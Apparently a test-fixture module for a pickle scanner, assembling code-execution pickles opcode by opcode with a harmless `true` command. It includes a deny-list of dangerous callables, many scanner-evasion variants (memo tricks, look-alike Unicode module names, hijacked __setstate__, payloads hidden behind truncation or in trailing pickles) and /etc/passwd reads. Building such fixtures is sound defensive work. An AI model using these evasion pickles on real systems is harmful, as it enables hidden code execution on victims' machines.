"""Malicious pickles, put together opcode by opcode; none is ever loaded. The command in them is `true`, which does nothing."""

from __future__ import annotations

import pickle
import struct

COMMAND = "true"

# What has been used, or reported to picklescan and fickling, to run code from a pickle: by its arguments
DIRECT = (
    ("os", "system"),
    ("posix", "system"),
    ("nt", "system"),
    ("os", "popen"),
    ("os", "execl"),
    ("subprocess", "Popen"),
    ("subprocess", "check_output"),
    ("subprocess", "getoutput"),
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("builtins", "compile"),
    ("builtins", "__import__"),
    ("builtins", "open"),
    ("builtins", "getattr"),
    ("builtins", "breakpoint"),
    ("builtins", "map"),
    ("builtins", "type"),
    ("builtins", "filter"),
    ("__builtin__", "eval"),
    ("__builtin__", "apply"),
    ("runpy", "run_path"),
    ("runpy", "_run_code"),
    ("importlib", "import_module"),
    ("imp", "load_source"),
    ("ctypes", "CDLL"),
    ("_ctypes", "dlopen"),
    ("socket", "create_connection"),
    ("ssl", "get_server_certificate"),
    ("webbrowser", "open"),
    ("pty", "spawn"),
    ("bdb", "Bdb.run"),
    ("pdb", "run"),
    ("timeit", "timeit"),
    ("code", "InteractiveInterpreter.runcode"),
    ("codeop", "compile_command"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("multiprocessing.util", "spawnv_passfds"),
    ("cProfile", "run"),
    ("profile", "run"),
    ("trace", "Trace.run"),
    ("doctest", "debug_script"),
    ("pydoc", "pipepager"),
    ("pydoc", "locate"),
    ("shutil", "rmtree"),
    ("tempfile", "mktemp"),
    ("logging", "FileHandler"),
    ("logging.config", "fileConfig"),
    ("_io", "FileIO"),
    ("_io", "open_code"),
    ("pathlib", "Path.write_text"),
    ("urllib.request", "urlopen"),
    ("http.client", "HTTPSConnection"),
    ("ftplib", "FTP"),
    ("smtplib", "SMTP"),
    ("imaplib", "IMAP4_stream"),
    ("uuid", "_get_command_stdout"),
    ("ensurepip", "_run_pip"),
    ("pip._internal.cli.main", "main"),
    ("venv", "create"),
    ("test.support.script_helper", "assert_python_ok"),
    ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("distutils.spawn", "spawn"),
    ("pickle", "loads"),
    ("_pickle", "loads"),
    ("marshal", "loads"),
    ("shelve", "open"),
    ("dill", "loads"),
    ("joblib", "load"),
    ("joblib.numpy_pickle", "NumpyArrayWrapper"),
    ("pandas", "read_pickle"),
    ("pandas.io.pickle", "read_pickle"),
    ("numpy", "load"),
    ("numpy", "fromfile"),
    ("numpy.ctypeslib", "load_library"),
    ("numpy.f2py.crackfortran", "getlincoef"),
    ("numpy.testing._private.utils", "runstring"),
    ("numpy.distutils.exec_command", "exec_command"),
    ("scipy.io", "loadmat"),
    ("sklearn.datasets", "load_files"),
    ("sklearn.utils._testing", "assert_run_python_script_without_output"),
    ("mlflow.pyfunc", "load_model"),
    ("mlflow.sklearn", "_load_pyfunc"),
    ("torch", "load"),
    ("torch.serialization", "load"),
    ("torch.jit", "load"),
    ("torch.hub", "load"),
    ("torch.utils.collect_env", "run"),
    ("torch._inductor.codecache", "compile_file"),
    ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("operator", "attrgetter"),
    ("operator", "methodcaller"),
    ("_operator", "itemgetter"),
    ("functools", "partial"),
    ("functools", "reduce"),
    ("types", "CodeType"),
    ("types", "FunctionType"),
    ("cloudpickle.cloudpickle", "_make_function"),
    ("cloudpickle.cloudpickle", "subimport"),
    ("pkgutil", "resolve_name"),
    ("site", "execsitecustomize"),
    ("sys", "settrace"),
    ("aiohttp", "request"),
    ("requests.api", "get"),
    ("_osx_support", "_read_output"),
    ("_pyrepl.pager", "pipe_pager"),
    ("setuptools.sandbox", "run_setup"),
    ("xmlrpc.client", "ServerProxy"),
)


def text(value: str) -> bytes:
    """Push a text, as protocol 4 does."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def global_(module: str, name: str) -> bytes:
    """Import as protocols 0 to 3 do."""
    return f"c{module}\n{name}\n".encode()


def stack_global(module: str, name: str) -> bytes:
    """Import as protocol 4 does."""
    return text(module) + text(name) + b"\x93"


def call(what: bytes, *arguments: bytes) -> bytes:
    """Call what a piece of pickle pushes with what others push."""
    return what + b"(" + b"".join(arguments) + b"tR"


SYSTEM = global_("posix", "system")
RUN = text(COMMAND) + b"\x85R."
PAYLOAD = call(SYSTEM, text(COMMAND))
MALICIOUS = b"\x80\x04" + PAYLOAD + b"."


def direct() -> dict[str, bytes]:
    """One pickle for each callable, called with a text."""
    return {f"{module}.{name}": b"\x80\x02" + call(global_(module, name), b"X\x04\0\0\0true") + b"." for module, name in DIRECT}


def obfuscated() -> dict[str, bytes]:
    """The same call, said in ways that have misled scanners."""
    proto4, proto2, old = b"\x80\x04", b"\x80\x02", b"cposix\nsystem\n(S'true'\ntR."
    imported = call(global_("builtins", "__import__"), text("os"))
    method = call(global_("operator", "methodcaller"), text("system"), text(COMMAND))
    attribute = call(global_("operator", "attrgetter"), text("system"))
    distances = "sklearn.metrics._dist_metrics"
    chain = call(call(global_("builtins", "getattr"), call(global_("builtins", "__import__"), text("os")), text("system")), text(COMMAND))
    partial = call(call(global_("functools", "partial"), SYSTEM, text(COMMAND)))
    estimator = stack_global("sklearn.linear_model._logistic", "LogisticRegression")
    made = estimator + b")\x81"
    booster = stack_global("lightgbm.basic", "Booster")
    generator = stack_global("numpy.random._pickle", "__generator_ctor")
    carried = b"B" + struct.pack("<I", len(MALICIOUS)) + MALICIOUS
    good = pickle.dumps({"a": 1}, 4)
    return {
        "protocol 0": b"cposix\nsystem\n(S'true'\ntR.",
        "protocol 0, unicode": b"cposix\nsystem\n(Vtrue\ntR.",
        "protocol 1": b"cposix\nsystem\nq\x00(X\x04\0\0\0trueq\x01tq\x02Rq\x03.",
        "protocol 2": proto2 + SYSTEM + b"X\x04\0\0\0true\x85R.",
        "protocol 3": b"\x80\x03" + SYSTEM + b"X\x04\0\0\0true\x85R.",
        "protocol 5": b"\x80\x05" + stack_global("posix", "system") + RUN,
        "framed": proto4 + b"\x95" + struct.pack("<Q", len(PAYLOAD) + 1) + PAYLOAD + b".",
        "STACK_GLOBAL": proto4 + stack_global("posix", "system") + RUN,
        "names through the memo": proto4 + text("system") + b"\x94" + text("posix") + b"\x94" + b"0h\x01h\x00\x93" + RUN,
        "names through far memo": proto4 + text("system") + b"r\xff\xff\0\0" + text("posix") + b"q\x07" + b"00h\x07j\xff\xff\0\0\x93" + RUN,
        "names overwritten in the memo": proto4
        + text("numpy")
        + b"q\x000"
        + text("posix")
        + b"q\x000"
        + b"h\x00"
        + text("system")
        + b"\x93"
        + RUN,
        "names below decoys": proto4 + text("posix") + text("system") + text("decoy") + b"0\x93" + RUN,
        "names duplicated": proto4 + text("posix") + b"2" + b"0" + text("system") + b"\x93" + RUN,
        "names of bytes": proto4 + b"C\x05posixC\x06system\x93" + RUN,
        "names of old strings": proto4 + b"U\x05posixU\x06system\x93" + RUN,
        "name from a call": proto4 + text("posix") + call(stack_global("builtins", "str"), text("system")) + b"\x93" + RUN,
        "name out of a tuple": proto4 + text("posix") + text("system") + b"\x86\x93" + RUN,
        "dotted name": proto4 + stack_global("sklearn", "os.system") + RUN,
        "dotted name below an allowed module": proto4 + stack_global("numpy", "ndarray.tofile") + RUN,
        "dotted through an allowed class": proto4 + stack_global("collections", "OrderedDict.__init__.__globals__") + b".",
        "name in another script": proto4 + stack_global("pos\u0456x", "system") + RUN,
        "wide unicode names": proto4 + stack_global("\N{FULLWIDTH LATIN SMALL LETTER O}s", "system") + RUN,
        "GLOBAL beyond ASCII": proto2 + "cpos\u0456x\nsystem\n".encode() + b"X\x04\0\0\0true\x85R.",
        "INST": b"(S'true'\niposix\nsystem\n.",
        "OBJ": proto2 + b"(" + SYSTEM + b"X\x04\0\0\0trueo.",
        "NEWOBJ of a function": proto2 + SYSTEM + b"X\x04\0\0\0true\x85\x81.",
        "NEWOBJ of Popen": proto2 + global_("subprocess", "Popen") + b"X\x04\0\0\0true\x85\x81.",
        "NEWOBJ_EX": proto4 + stack_global("subprocess", "Popen") + b")}" + text("args") + text(COMMAND) + b"s\x92.",
        "EXT1": proto2 + b"\x82\x01X\x04\0\0\0true\x85R.",
        "EXT2": proto2 + b"\x83\x01\x00X\x04\0\0\0true\x85R.",
        "EXT4": proto2 + b"\x84\x01\x00\x00\x00X\x04\0\0\0true\x85R.",
        "PERSID": b"Pfile:///etc/passwd\n.",
        "BINPERSID": proto2 + b"X\x04\0\0\0trueQ.",
        "out-of-band buffer": b"\x80\x05\x97\x98.",
        "partial": proto4 + partial + b".",
        "getattr chain": proto4 + chain + b".",
        "reduce over map": proto4 + call(global_("builtins", "list"), call(global_("builtins", "map"), SYSTEM, text(COMMAND))) + b".",
        "methodcaller": proto4 + call(method, global_("os", "path")) + b".",
        "attrgetter": proto4 + call(call(attribute, imported), text(COMMAND)) + b".",
        "BUILD into a class": proto4 + estimator + b"N}" + text("predict") + SYSTEM + b"s\x86b.",
        "BUILD into a function": proto4 + stack_global("numpy", "log1p") + b"N}" + text("__defaults__") + b")s\x86b.",
        "BUILD with __setstate__": proto4 + made + b"}" + text("__setstate__") + SYSTEM + b"sb" + text(COMMAND) + b"b.",
        "attribute of an estimator": proto4 + made + b"}" + text("predict") + SYSTEM + b"sb.",
        "item of an ordered dict": proto4 + stack_global("collections", "OrderedDict") + b")\x81" + text("a") + PAYLOAD + b"s.",
        "default factory": proto4 + call(stack_global("collections", "defaultdict"), SYSTEM) + b".",
        "a constructor's constructor": proto4 + call(generator, text(COMMAND), SYSTEM) + b".",
        "an allowed class as a constructor's constructor": proto4 + call(generator, text("/etc/passwd"), booster) + b".",
        "an estimator called with arguments": proto4 + call(estimator, text("l2")) + b".",
        "a booster that reads a file": proto4 + call(stack_global("xgboost.core", "Booster"), b"N", b")", text("/etc/passwd")) + b".",
        "a kept function called": proto4 + call(stack_global("numpy", "log1p"), b"K\x01") + b".",
        "a distance of the file's choice": proto4
        + call(stack_global(distances, "newObj"), stack_global(distances, "PyFuncDistance64"))
        + b".",
        "_reconstructor with a base": b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR.",
        "_reconstructor of another base": b"ccopy_reg\n_reconstructor\n(ccollections\nOrderedDict\nc__builtin__\ndict\n(lp0\ntR.",
        "a type of code looked up": proto4 + call(stack_global("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType")) + b".",
        "a bytearray of any length": proto4 + call(stack_global("builtins", "bytearray"), b"\x8a\x06\0\0\0\0\0\x7f") + b".",
        "truncated behind the payload": proto4 + PAYLOAD,
        "truncated within a text": proto4 + PAYLOAD + b"X\xff\0\0\0abc",
        "broken behind the payload": proto4 + PAYLOAD + b"\xfe\xfd\xfc.",
        "an empty stack behind the payload": proto4 + PAYLOAD + b"000.",
        "payload popped": proto4 + PAYLOAD + b"0K\x01.",
        "payload below a mark": proto4 + b"(" + PAYLOAD + b"1K\x01.",
        "payload among good values": good[:-1] + PAYLOAD + b"0.",
        "payload in the second pickle": good + MALICIOUS,
        "payload in the third pickle": good + good + MALICIOUS,
        "payload behind a line": good + b"\n" + MALICIOUS,
        "protocol changed on the way": b"\x80\x02\x80\x04" + PAYLOAD + b".",
        "protocol 255": b"\x80\xff" + PAYLOAD + b".",
        "a pickle carried as bytes": proto4 + carried + b".",
        "a pickle carried as bytes of protocol 0": proto4 + b"C" + bytes([len(old)]) + old + b".",
        "a pickle carried into an allowed call": proto4 + call(stack_global("builtins", "bytearray"), carried) + b".",
        "behind a long text": b"X" + struct.pack("<I", 1 << 17) + b"a" * (1 << 17) + b"0" + PAYLOAD + b".",
        "memo never written": proto4 + b"h\x09h\x08\x93.",
    }
